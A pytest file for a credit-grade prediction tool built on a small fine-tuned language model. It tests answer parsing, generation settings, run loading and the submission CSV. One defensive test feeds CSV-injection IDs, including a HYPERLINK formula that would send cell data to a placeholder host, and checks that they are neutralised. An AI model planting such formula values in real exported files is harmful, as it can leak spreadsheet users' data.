"""Tests for korllama.predict, korllama.generation and korllama.streaming: parsing generated answers, the original's
generation settings, loading runs, and the submission file.

Everything runs on a tiny run (hidden 32, 2 layers, 4 steps) trained once per module with one CPU thread.
"""

from __future__ import annotations

import shutil

import numpy as np
import pandas as pd
import pytest
import torch
from fixtures import CLASSES, FIELDS, TINY, unlabelled_csv

from korllama.errors import KorllamaError
from korllama.generation import generate, parse_grade, seed_generation_config
from korllama.prompts import render
from korllama.run import Run
from korllama.scoring import score
from korllama.synth import synthetic_table


@pytest.fixture(scope="module")
def loaded(run_dir):
    run = Run.load(run_dir)
    return run.model, run.tokenizer, run.config


@pytest.fixture(scope="module")
def mixed_prompts() -> list[str]:
    """40 prompts of very different lengths: short (3 fields), long (all fields) and truncated ones."""
    table = synthetic_table(40, seed=7)
    short, long = render(table, "compact", FIELDS), render(table, "compact")
    prompts = []
    for i in range(40):
        if i % 3 == 0:
            prompts.append(long[i])
        elif i % 3 == 1:
            prompts.append(short[i])
        else:
            prompts.append(long[i][: 20 + 7 * i])
    return prompts


# --- generation ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, grade", [
    ("B", "B"),
    ("B because the rate is low", "B"),
    (" B\n###Instruction: next borrower", "B"),
    ("###Credit Rating : C", "C"),
    ("Credit Rating: E\nA is not it", "E"),
    ("I think his credit rating is CCC+", None),
    ("AA-rated and A+, but in the end the grade is D.", "D"),
    ("", None),
    ("   \n", None),
])
def test_parse_grade(text, grade):
    assert parse_grade(text, CLASSES) == grade


def test_parse_grade_with_custom_classes():
    classes = ["low", "mid", "high"]
    assert parse_grade("high risk", classes) == "high"
    assert parse_grade("Credit Rating : mid", classes) == "mid"
    assert parse_grade("the grade is B", classes) is None  # not one of these classes
    assert parse_grade("highest", classes) is None
    assert parse_grade("AB", ["A", "AB"]) == "AB"  # the longest class wins at the same place


def test_seed_generation_config_is_the_originals(loaded):
    _, tokenizer, _ = loaded
    config = seed_generation_config(tokenizer)
    assert config.do_sample is True
    assert config.top_k == 1 and config.top_p == 0.9
    assert config.repetition_penalty == 1.1 and config.temperature == 0.8
    assert config.max_new_tokens == 100 and config.num_return_sequences == 1
    assert config.pad_token_id == tokenizer.eos_token_id == config.eos_token_id


def test_generate_returns_a_grade_or_none_and_the_text_per_prompt(loaded, mixed_prompts):
    model, tokenizer, _ = loaded
    prompts = [mixed_prompts[i] for i in (1, 4, 7, 10, 13)]
    done = []
    grades, texts = generate(model, tokenizer, prompts, CLASSES, batch_size=2, progress=done.append)
    assert len(grades) == len(texts) == 5 and sum(done) == 5
    assert all(isinstance(t, str) for t in texts)
    assert all(g is None or g in CLASSES for g in grades)
    assert grades == [parse_grade(t, CLASSES) for t in texts]
    assert generate(model, tokenizer, prompts, CLASSES, batch_size=2) == (grades, texts)  # seeded: repeatable


def test_generating_for_a_chunk_tokenises_its_prompts_once(run_dir, monkeypatch):
    import korllama.scoring as scoring
    import korllama.streaming as streaming

    run = Run.load(run_dir)
    chunk = synthetic_table(5, seed=3)
    calls, plain = [], scoring.encode_prompts

    def counted(tokenizer, prompts):
        calls.append(len(prompts))
        return plain(tokenizer, prompts)

    monkeypatch.setattr(scoring, "encode_prompts", counted)  # Run.encode's, through scoring.encode_distinct
    scored = streaming.score_chunk(run, chunk, 2, mode="generate")
    assert calls == [5]  # the length check and generation share one tokenisation
    expected = generate(run.model, run.tokenizer, run.template.render(chunk), CLASSES, batch_size=2)
    assert (list(scored.pred), scored.texts) == (expected[0], expected[1])


def test_generation_is_the_same_alone_or_left_padded_in_a_batch(run_dir, mixed_prompts):
    # top_k=1 makes the original's sampling greedy, so left padding (rows of other lengths in one batch) must not
    # change a row's text. The untrained base never says EOS: every row runs all 100 new tokens.
    _loaded = Run.load(run_dir, base=str(run_dir / "base"))
    model, tokenizer, _ = _loaded.model, _loaded.tokenizer, _loaded.config
    prompts = [mixed_prompts[i] for i in (0, 1, 2)]  # long, short, truncated: padded by different amounts
    assert len({len(tokenizer(p)["input_ids"]) for p in prompts}) == 3
    batched = generate(model, tokenizer, prompts, CLASSES, batch_size=3)[1]
    assert all(len(tokenizer(t, add_special_tokens=False)["input_ids"]) >= 50 for t in batched)
    assert generate(model, tokenizer, prompts, CLASSES, batch_size=1)[1] == batched


# --- loading -------------------------------------------------------------------------------------------------------

def test_load_run_refuses_a_folder_that_is_not_a_run(tmp_path):
    with pytest.raises(KorllamaError, match="not a korllama run directory.*--base"):
        Run.load(tmp_path)
    with pytest.raises(KorllamaError, match="--base"):
        Run.load(None, None)


def test_load_run_of_an_unfinished_run_says_resume(run_dir, tmp_path):
    unfinished = tmp_path / "unfinished"
    unfinished.mkdir()
    shutil.copy(run_dir / "config.yaml", unfinished / "config.yaml")
    with pytest.raises(KorllamaError, match="unfinished run.*--resume"):
        Run.load(unfinished)
    with pytest.raises(KorllamaError, match="did not finish.*--resume"):  # allowed, but it has no weights yet
        _ = Run.load(unfinished, allow_unfinished=True).model


def test_load_run_with_base_gives_the_untuned_model(run_dir, loaded):
    from safetensors.torch import load_file

    name = "model.layers.0.self_attn.q_proj.weight"
    before = load_file(run_dir / "base" / "model.safetensors")[name]
    tuned = loaded[0].state_dict()[name]
    assert not torch.equal(tuned, before)

    _loaded = Run.load(run_dir, base=str(run_dir / "base"))

    model, tokenizer, config = _loaded.model, _loaded.tokenizer, _loaded.config
    assert torch.equal(model.state_dict()[name], before)
    assert config.prompt.fields == FIELDS  # the run's prompt settings, the base's weights

    _loaded = Run.load(None, base=str(run_dir / "base"))

    model, tokenizer, config = _loaded.model, _loaded.tokenizer, _loaded.config
    assert torch.equal(model.state_dict()[name], before)
    assert config.model.base == str(run_dir / "base")
    proba = score(model, tokenizer, ["term: 36\nimplied_rate: 9.5%\ngrade:"], CLASSES)
    np.testing.assert_allclose(proba.sum(axis=1), 1.0, atol=1e-6)


def test_load_run_with_another_base_keeps_that_bases_tokenizer(run_dir, mixed_prompts, tmp_path):
    from korllama.config import TinyModelConfig
    from korllama.model import build_tiny

    other = build_tiny(mixed_prompts, tmp_path / "other", TinyModelConfig(**(TINY | {"vocab_size": 300})), seed=1,
                       labels=CLASSES)
    _loaded = Run.load(run_dir, base=str(other))
    model, tokenizer, config = _loaded.model, _loaded.tokenizer, _loaded.config
    assert len(tokenizer) == model.get_input_embeddings().num_embeddings < 384  # not the run's 384-token vocabulary
    assert config.prompt.fields == FIELDS
    proba = score(model, tokenizer, mixed_prompts[:3], CLASSES)
    np.testing.assert_allclose(proba.sum(axis=1), 1.0, atol=1e-6)


# --- the submission file ---------------------------------------------------------------------------------------------

def test_predict_writes_the_competition_format(cli, run_dir, tmp_path):
    data = unlabelled_csv(tmp_path / "test.csv")
    out = tmp_path / "sub.csv"
    code, stdout, err = cli("predict", run_dir, "--data", data, "--out", out, "--batch-size", 4)
    assert code == 0, err
    assert "25 rows" in " ".join(stdout.split())  # rich may wrap the line

    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # UTF-8 without BOM
    lines = raw.decode("utf-8").splitlines()
    assert lines[0] == "ID,대출등급"
    submission = pd.read_csv(out, dtype=str, encoding="utf-8")
    source = pd.read_csv(data, dtype=str, encoding="utf-8")
    assert list(submission.columns) == ["ID", "대출등급"]
    assert submission["ID"].tolist() == source["ID"].tolist()  # input order (the IDs are shuffled in it)
    assert set(submission["대출등급"]) <= set(CLASSES)


def test_predict_with_proba_adds_probabilities(cli, run_dir, tmp_path):
    data = unlabelled_csv(tmp_path / "test.csv", rows=12, seed=4)
    out = tmp_path / "sub.csv"
    code, _, err = cli("predict", run_dir, "--data", data, "--out", out, "--proba")
    assert code == 0, err
    submission = pd.read_csv(out, encoding="utf-8")
    assert list(submission.columns) == ["ID", "대출등급", *[f"P_{c}" for c in CLASSES]]
    proba = submission[[f"P_{c}" for c in CLASSES]].to_numpy()
    np.testing.assert_allclose(proba.sum(axis=1), 1.0, atol=1e-5)
    assert submission["대출등급"].tolist() == [CLASSES[i] for i in proba.argmax(axis=1)]
    assert len(submission) == 12


def test_predict_with_a_bad_data_file_writes_nothing(cli, run_dir, tmp_path):
    data = unlabelled_csv(tmp_path / "test.csv", rows=8)
    frame = pd.read_csv(data, dtype=str)
    frame.loc[3, "대출기간"] = "forever"
    frame.to_csv(data, index=False)
    out = tmp_path / "sub.csv"
    code, _, err = cli("predict", run_dir, "--data", data, "--out", out)
    assert code == 2
    assert err.startswith("error:") and "대출기간" in err and "Traceback" not in err
    assert not out.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["test.csv"]


def test_predict_before_tuning_with_base(cli, run_dir, tmp_path):
    data = unlabelled_csv(tmp_path / "test.csv", rows=6)
    out = tmp_path / "before.csv"
    code, _, err = cli("predict", "--base", run_dir / "base", "--data", data, "--out", out)
    assert code == 0, err
    submission = pd.read_csv(out, dtype=str)
    assert list(submission.columns) == ["ID", "대출등급"] and len(submission) == 6


def test_parse_grade_with_korean_and_prefix_labels():
    classes = ["우수", "보통", "미흡"]
    assert parse_grade(" 우수", classes) == "우수"
    assert parse_grade("평가 : 미흡\n이유: 점수가 낮음", classes) == "미흡"
    assert parse_grade("이 지원자는 보통 수준", classes) == "보통"
    assert parse_grade("우수함", classes) is None  # a longer word is not the label
    assert parse_grade("grade: pass with merit", ["pass", "pass with merit"]) == "pass with merit"
    assert parse_grade("A+", ["A", "A+"]) == "A+"


def test_predict_neutralises_ids_a_spreadsheet_would_run(cli, run_dir, tmp_path):
    """OWASP's CSV injection: an ID such as =HYPERLINK(...) is written as text ('=...), every other ID as it was."""
    data = unlabelled_csv(tmp_path / "t.csv", rows=6)
    frame = pd.read_csv(data, dtype=str)
    frame.loc[0, "ID"], frame.loc[1, "ID"], frame.loc[2, "ID"] = '=HYPERLINK("http://x/?"&A1)', "@SUM(1+1)", "+1+1"
    frame.to_csv(data, index=False)
    out = tmp_path / "s.csv"
    code, _, err = cli("predict", run_dir, "--data", data, "--out", out)
    assert code == 0, err
    written = pd.read_csv(out, dtype=str)
    assert written["ID"].tolist()[:3] == ['\'=HYPERLINK("http://x/?"&A1)', "'@SUM(1+1)", "'+1+1"]
    assert written["ID"].tolist()[3:] == frame["ID"].tolist()[3:]
